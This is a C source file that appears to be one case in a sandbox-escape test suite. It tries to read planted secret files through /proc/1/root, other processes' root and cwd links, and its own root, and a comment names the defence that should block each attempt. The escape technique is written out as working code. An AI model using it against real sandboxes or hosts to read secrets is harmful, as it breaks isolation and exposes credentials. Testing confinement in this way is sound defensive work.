// attack: escape: read the planted secrets through other processes' roots and cwds (/proc/1/root/…, /proc/PID/root/…, /proc/PID/cwd/…), where an unhidden view of the host might show through
// stopped by: kernel(pid 1's root), namespaces(own root) or landlock(own root)
#define _GNU_SOURCE
#include "attack.h"
#include <sched.h>
#include <sys/mount.h>

int main(void) {
    const char *secrets = secret_paths();
    if (!secrets) { fprintf(stderr, "SECRETS and HOME not set\n"); return 2; }
    char list[8192];
    snprintf(list, sizeof list, "%s", secrets);
    char *save = NULL;
    for (char *s = strtok_r(list, ":", &save); s; s = strtok_r(NULL, ":", &save)) {
        char path[8192];
        snprintf(path, sizeof path, "/proc/1/root%s", s);
        dump("pid 1's root", path);
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            if (e->d_name[0] < '1' || e->d_name[0] > '9' || strcmp(e->d_name, "1") == 0) continue;
            snprintf(path, sizeof path, "/proc/%s/root%s", e->d_name, s);
            if (dump("another pid's root", path)) continue;
            // Relative to its cwd: walk up to / with enough "..".
            snprintf(path, sizeof path, "/proc/%s/cwd/../../../../../../../../..%s", e->d_name, s);
            dump("another pid's cwd", path);
        }
        if (d) closedir(d);
        snprintf(path, sizeof path, "/proc/self/root%s", s);
        dump("own root", path);
    }
    return 0;
}
